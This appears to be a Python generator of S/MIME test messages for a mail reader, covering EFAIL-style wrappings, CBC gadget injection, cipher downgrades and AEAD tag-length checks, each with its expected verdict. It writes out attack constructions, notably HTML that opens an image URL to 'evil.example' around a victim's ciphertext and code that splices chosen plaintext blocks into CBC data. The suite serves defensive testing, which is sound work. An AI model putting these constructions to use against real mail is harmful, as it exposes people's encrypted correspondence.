"""A: encryption and its oracles."""

import ciphers
import cms
import der
import keys
import kit
import mime
import x509

ALICE = x509.of("pki/alice-2025.pem", "alice-2025")
SECRET = "the contract of 2019"
OTHERS = {
    "aes-128-ecb": cms.AES + "1",
    "aes-256-ecb": cms.AES + "41",
    "aes-128-ofb": cms.AES + "3",
    "aes-256-ofb": cms.AES + "43",
    "aes-128-cfb": cms.AES + "4",
    "aes-256-cfb": cms.AES + "44",
    "aes-256-wrap": cms.AES + "45",
    "rc4": "1.2.840.113549.3.4",
    "camellia-128-cbc": "1.2.392.200011.61.1.1.1.2",
    "camellia-256-cbc": "1.2.392.200011.61.1.1.1.4",
    "seed-cbc": "1.2.410.200004.1.4",
    "cast5-cbc": "1.2.840.113533.7.66.10",
    "idea-cbc": "1.3.6.1.4.1.188.7.1.1.2",
    "hmac-sha256": "1.2.840.113549.2.9",
}
BLOCKS = {
    "aes-128-cbc": (cms.CBC[16], 16),
    "aes-192-cbc": (cms.CBC[24], 16),
    "aes-256-cbc": (cms.CBC[32], 16),
    "3des-cbc": ("1.2.840.113549.3.7", 8),
    "des-cbc": ("1.3.14.3.2.7", 8),
}


def mail(name, kind, expect, data, comment, smime_type="enveloped-data", **more):
    values = {**kit.KEYS, **more}
    kit.mail(name, kind, expect, mime.cms_entity(data, smime_type), comment, **values)


def envelope(label, content=mime.PLAIN, size=32):
    return cms.Envelope(label, ALICE, content, size)


def wrappings():
    """A1 and B10: the victim's ciphertext among the attacker's parts."""
    inner = mime.cms_entity(envelope("a1").cbc())
    before = mime.HTML + b'<img src="http://evil.example/?'
    after = mime.HTML + b'">'
    image = mime.HTML + b'<p>Look: <object data="cid:x"></object><iframe src="cid:x">'
    as_cid = mime.cms_entity(envelope("a1").cbc(), more="Content-ID: <x>\r\n")
    attached = mime.cms_entity(envelope("a1").cbc(), more="Content-Disposition: attachment; filename=smime.p7m\r\n")
    whole = mime.header("inner") + inner
    forwarded = b"Content-Type: message/rfc822\r\n\r\n" + whole
    hidden = mime.HTML + b'Please answer.<div style="display:none">'
    cases = {
        "before": ("text before", "mixed", [before, inner]),
        "after": ("text behind", "mixed", [inner, after]),
        "both": ("HTML that is opened before and closed behind: the exfiltration of EFAIL", "mixed", [before, inner, after]),
        "alternative": ("one of two alternatives", "alternative", [mime.HTML + b"Hello", inner]),
        "related": ("related to an HTML text that shows it by cid", "related", [image, as_cid]),
        "attachment": ("an attachment", "mixed", [mime.TEXT + b"See what is attached.", attached]),
        "rfc822": ("in a forwarded message", "mixed", [mime.TEXT + b"FYI", forwarded]),
        "digest": ("in a digest", "digest", [b"\r\n" + whole]),
        "hidden": ("behind an invitation to answer: the answer would quote what the style hides", "mixed", [hidden, inner]),
    }
    for name, (comment, kind, parts) in cases.items():
        kit.mail("a1-" + name, "spoof", "opened", mime.multipart(kind, parts),
                 "the ciphertext is " + comment, mime.CAROL, errant="encrypted", withheld=SECRET, **kit.KEYS)
    kit.mail("a1-only-part", "spoof", "opened", mime.multipart("mixed", [inner]),
             "the ciphertext is the only part of a multipart, and not the message", mime.CAROL,
             errant="encrypted", withheld=SECRET, **kit.KEYS)
    kit.mail("a1-forwarded-alone", "spoof", "opened", forwarded, "the whole message is a forwarded ciphertext",
             mime.CAROL, errant="encrypted", withheld=SECRET, **kit.KEYS)
    carol = x509.of("pki/carol.pem", "carol")
    issuing = x509.of("pki/issuing.pem")
    around = mime.multipart("mixed", [before, inner, after])
    p7s = cms.signed([cms.signer(carol, around)], [carol, issuing])
    kit.mail("a1-signed-by-attacker", "deviation", "trusted", mime.multipart_signed(around, p7s),
             "the attacker signs, in her own name, parts with the ciphertext among them: it stays closed",
             mime.CAROL, layers="signed", errant="encrypted", withheld=SECRET, binding="MATCH", **kit.SIGNED, **kit.KEYS)
    outer = envelope("b10", around)
    for name, data, released in (("cbc", outer.cbc(), "no"), ("gcm", outer.gcm(), "yes")):
        mail("b10-in-parts-in-" + name, "spoof", "opened", data,
             "encrypted again together with parts of the attacker", layers="encrypted", errant="encrypted",
             withheld=SECRET, released=released,
             smime_type="enveloped-data" if name == "cbc" else "authenveloped-data")
    mail("b10-forwarded-in-cbc", "spoof", "opened", envelope("b10 forwarded", forwarded).cbc(),
         "a forwarded ciphertext in a message that is itself encrypted", layers="encrypted", errant="encrypted",
         withheld=SECRET, released="no")
    kit.mail("b10-two-in-parts", "spoof", "opened", mime.multipart("mixed", [inner, inner]),
             "the same ciphertext twice", mime.CAROL, errant="encrypted encrypted", withheld=SECRET, **kit.KEYS)


def gadgets():
    """A2: chosen blocks from a known one, in CBC."""
    e = envelope("a2")
    known = mime.PLAIN[:16]

    def chosen(text, c):
        """A block that decrypts to the text, and the one of ciphertext that has to follow."""
        return ciphers.xor(ciphers.xor(text, known), e.iv), c[:16]

    def in_body(c):
        at = 16 * 8
        x, y = chosen(b"<img src=//evil/", c)
        return c[:at] + x + y + c[at:]

    def in_header(c):
        x, y = chosen(b"\r\nX-Evil: yes\r\nX", c)
        return c[:16] + x + y + c[16:]

    def first(c):
        x, y = chosen(b"Content-Type: te", c)
        z, _ = chosen(b"xt/html\r\n\r\n<img ", c)
        return x + y + z + y + c[16:]

    def flipped(text):
        return ciphers.xor(ciphers.xor(e.iv, known), text)

    mail("a2-gadget-in-body", "spoof", "opened", e.cbc(change=in_body), "a gadget in the text",
         layers="encrypted", released="no")
    mail("a2-gadget-in-body-strict", "spoof", "refused UNAUTHENTICATED", e.cbc(change=in_body),
         "the same for a reader that takes authenticated encryption alone", policy="authenticated-only")
    mail("a2-gadget-in-header", "spoof", "not decryptable", e.cbc(change=in_header),
         "a gadget in the header: octets that nobody chose stand between fields")
    mail("a2-gadget-first", "spoof", "opened", e.cbc(change=first),
         "gadgets instead of the first block: octets, and no mail", layers="encrypted", released="no", deviations="NOT_MIME")
    mail("a2-flipped-iv", "spoof", "opened", e.cbc(iv=flipped(b"Subject: pay me!")),
         "the IV was changed so that the first block has another text", layers="encrypted", released="no")
    mail("a2-cut-front", "spoof", "opened", e.cbc(change=lambda c: c[16 * 9 :]),
         "the header was cut off, and what is left begins with a block that nobody chose: octets, and no mail",
         layers="encrypted", released="no", deviations="NOT_MIME")
    mail("a2-cut-back", "spoof", "not decryptable", e.cbc(change=lambda c: c[:-16]), "the block with the padding was cut off")
    mail("a2-doubled", "spoof", "opened", e.cbc(change=lambda c: c[:128] + c[96:]),
         "a piece of the text twice", layers="encrypted", released="no")
    mail("a2-strict", "spoof", "refused UNAUTHENTICATED", e.cbc(),
         "an honest CBC message for a reader that takes authenticated encryption alone", policy="authenticated-only")
    bob, issuing = x509.of("pki/bob.pem", "bob"), x509.of("pki/issuing.pem")
    s = envelope("a2 signed", mime.multipart_signed(mime.PLAIN, cms.signed([cms.signer(bob, mime.PLAIN)], [bob, issuing])))
    position = (s.content.index(b"Dear Alice") // 16 + 1) * 16
    splice = lambda c: c[:position] + c[:32] + c[position:]
    mail("a2-gadget-in-signed", "spoof", "broken DIGEST_MISMATCH", s.cbc(change=splice),
         "blocks were put into a signed text inside the envelope", layers="encrypted signed", released="no",
         integrity="altered", **kit.SIGNED)


def downgrades():
    """A3, A4, A6: one cipher in the place of another."""
    text = mime.PLAIN + b" " * (-len(mime.PLAIN) % 16)
    e = envelope("a3", text)
    body, tag = ciphers.gcm(e.cek, e.nonce, text)
    gcm = der.algorithm(cms.GCM[32], cms.aead_parameters(e.nonce, 16))
    cbc = der.algorithm(cms.CBC[32], der.octets(e.nonce + b"\0\0\0\2"))
    again = lambda algorithm, c: cms.enveloped([e.ktri()], algorithm, c)
    mail("a3-gcm-without-tag", "spoof", "refused AEAD_IN_ENVELOPED_DATA", again(gcm, body),
         "AuthEnvelopedData typed again as EnvelopedData, its tag dropped")
    mail("a3-gcm-without-tag-archive", "spoof", "not decryptable", again(gcm, body),
         "the same for an archive: without a right tag at the end it is not read", policy="archive")
    mail("a3-as-cbc", "spoof", "not decryptable", again(cbc, body), "typed again and named CBC, with the tag dropped")
    mail("a3-as-cbc-with-tag", "spoof", "not decryptable", again(cbc, body + tag), "the same with the tag as a last block")
    mail("a3-as-cbc-strict", "spoof", "refused UNAUTHENTICATED", again(cbc, body), "the same for the strict reader",
         policy="authenticated-only")
    mail("a3-as-cbc-archive", "spoof", "not decryptable", again(cbc, body), "the same for an archive", policy="archive")
    for name, (oid, size) in BLOCKS.items():
        mail("a4-" + name, "spoof", "refused NOT_AEAD_IN_AUTH_ENVELOPED_DATA",
             cms.auth_enveloped([e.ktri()], der.algorithm(oid, der.octets(e.iv[:size])), body, bytes(16)),
             name + " in AuthEnvelopedData, where the mac would go unread", "authenveloped-data")
    mail("a4-aes-256-cbc-empty-mac", "spoof", "refused NOT_AEAD_IN_AUTH_ENVELOPED_DATA",
         cms.auth_enveloped([e.ktri()], cbc, body, b""), "CBC with an empty mac", "authenveloped-data")
    mail("a4-aes-256-cbc-archive", "spoof", "refused NOT_AEAD_IN_AUTH_ENVELOPED_DATA",
         cms.auth_enveloped([e.ktri()], cbc, body, bytes(16)), "CBC in AuthEnvelopedData, for an archive",
         "authenveloped-data", policy="archive")
    for name, oid in OTHERS.items():
        known = name.endswith("cbc")
        mail("a4-" + name, "spoof", "refused NOT_AEAD_IN_AUTH_ENVELOPED_DATA" if known else "unsupported",
             cms.auth_enveloped([e.ktri()], der.algorithm(oid, der.octets(e.iv)), body, bytes(16)),
             name + " in AuthEnvelopedData", "authenveloped-data")
    aead = {}
    for size in (16, 24, 32):
        a = envelope("a6 %d" % size, size=size)
        out, mac = ciphers.gcm(a.cek, a.nonce, a.content)
        aead["aes-%d-gcm" % (8 * size)] = (a, cms.GCM[size], cms.aead_parameters(a.nonce, 16), out, mac)
        out, mac = ciphers.ccm(a.cek, a.nonce, a.content, 16)
        aead["aes-%d-ccm" % (8 * size)] = (a, cms.CCM[size], cms.aead_parameters(a.nonce, 16), out, mac)
    a = envelope("a6 chacha")
    out, mac = ciphers.chacha20_poly1305(a.cek, a.nonce, a.content)
    aead["chacha20-poly1305"] = (a, cms.CHACHA, der.octets(a.nonce), out, mac)
    for name, (a, oid, parameters, out, mac) in aead.items():
        data = cms.enveloped([a.ktri()], der.algorithm(oid, parameters), out + mac)
        mail("a6-" + name, "spoof", "refused AEAD_IN_ENVELOPED_DATA", data, name + " in EnvelopedData, the tag at the end")
    a, oid, parameters, out, mac = aead["aes-256-gcm"]
    right = cms.enveloped([a.ktri()], der.algorithm(oid, parameters), out + mac)
    mail("a6-archive", "deviation", "opened", right, "the same for an archive, which reads it as unauthenticated",
         layers="encrypted", sha256=kit.PLAIN, policy="archive", released="no", deviations="AEAD_IN_ENVELOPED_DATA")
    mail("a6-archive-trailing", "spoof", "not decryptable",
         cms.enveloped([a.ktri()], der.algorithm(oid, parameters), out + mac + b"<img src=//evil"),
         "octets behind the tag, which OpenSSL once handed out as plaintext", policy="archive")


def tags():
    """A5: lengths of tags and nonces."""
    e = envelope("a5")
    gcm = lambda **how: e.gcm(**how)
    kind = "authenveloped-data"
    for n in (0, 1, 4, 8, 11):
        mail("a5-gcm-tag-%d" % n, "spoof", "refused TAG_LENGTH", gcm(tag=n), "a tag of %d octets, cut from the right one" % n, kind)
    for n in (12, 13, 14, 15):
        mail("a5-gcm-tag-%d" % n, "deviation", "opened", gcm(tag=n), "a tag of %d octets" % n, kind, layers="encrypted",
             sha256=kit.PLAIN, deviations="SHORT_TAG", released="yes")
    for n in (17, 20):
        mail("a5-gcm-tag-%d" % n, "spoof", "malformed", gcm(tag=n, mac=lambda t: t + bytes(4)[: n - 16]),
             "a tag of %d octets, longer than there is" % n, kind)
    mail("a5-gcm-mac-shorter", "spoof", "malformed", gcm(mac=lambda t: t[:12]), "16 are declared, the mac has 12", kind)
    mail("a5-gcm-mac-longer", "spoof", "malformed", gcm(tag=12, mac=lambda t: t), "12 are declared, the mac has 16", kind)
    mail("a5-gcm-mac-1", "spoof", "malformed", gcm(mac=lambda t: t[:1]), "16 are declared, the mac has 1", kind)
    mail("a5-gcm-mac-empty", "spoof", "malformed", gcm(mac=lambda t: b""), "16 are declared, the mac is empty", kind)
    mail("a5-gcm-wrong", "spoof", "not decryptable", gcm(mac=lambda t: bytes([t[0] ^ 1]) + t[1:]), "one bit of the tag", kind)
    mail("a5-gcm-wrong-12", "spoof", "not decryptable", gcm(tag=12, mac=lambda t: t[:11] + bytes([t[11] ^ 1])),
         "one bit of a tag of 12 octets", kind)
    mail("a5-gcm-zero", "spoof", "not decryptable", gcm(mac=lambda t: bytes(16)), "a mac of zeros", kind)
    mail("a5-bare-nonce-8", "spoof", "refused TAG_LENGTH",
         gcm(parameters=der.octets(e.nonce), mac=lambda t: t[:8]), "parameters that are a bare nonce, and a tag of 8", kind)
    for n in (12, 16):
        mail("a5-bare-nonce-%d" % n, "deviation", "opened",
             gcm(parameters=der.octets(e.nonce), mac=lambda t: t[:n]), "parameters that are a bare nonce, and a tag of %d" % n,
             kind, layers="encrypted", sha256=kit.PLAIN, released="yes",
             deviations="BARE_NONCE SHORT_TAG" if n == 12 else "BARE_NONCE")
    attrs = der.set_of(cms.attribute(cms.CONTENT_TYPE, der.oid(cms.DATA)))
    other = der.set_of(cms.attribute(cms.CONTENT_TYPE, der.oid(cms.SIGNED)))
    right = e.gcm(attrs=attrs)
    mail("a5-attributes-changed", "spoof", "not decryptable", right.replace(attrs[1:], other[1:]),
         "an authenticated attribute was changed", kind)
    mail("a5-attributes-dropped", "spoof", "not decryptable",
         cms.auth_enveloped([e.ktri()], der.algorithm(cms.GCM[32], cms.aead_parameters(e.nonce, 16)),
                            *ciphers.gcm(e.cek, e.nonce, e.content, attrs)), "the authenticated attributes were dropped", kind)
    for n in (4, 8, 10):
        out, mac = ciphers.ccm(e.cek, e.nonce, e.content, n)
        mail("a5-ccm-tag-%d" % n, "spoof", "refused TAG_LENGTH",
             cms.auth_enveloped([e.ktri()], der.algorithm(cms.CCM[32], cms.aead_parameters(e.nonce, n)), out, mac),
             "CCM with a tag of %d octets" % n, kind)
    out, mac = ciphers.chacha20_poly1305(e.cek, e.nonce, e.content)
    for name, cut in (("cut", mac[:12]), ("changed", mac[:15] + bytes([mac[15] ^ 128]))):
        mail("a5-chacha-" + name, "spoof", "malformed" if name == "cut" else "not decryptable",
             cms.auth_enveloped([e.ktri()], der.algorithm(cms.CHACHA, der.octets(e.nonce)), out, cut),
             "the tag of ChaCha20-Poly1305 was " + name, kind)


def all_cases():
    wrappings()
    gadgets()
    downgrades()
    tags()
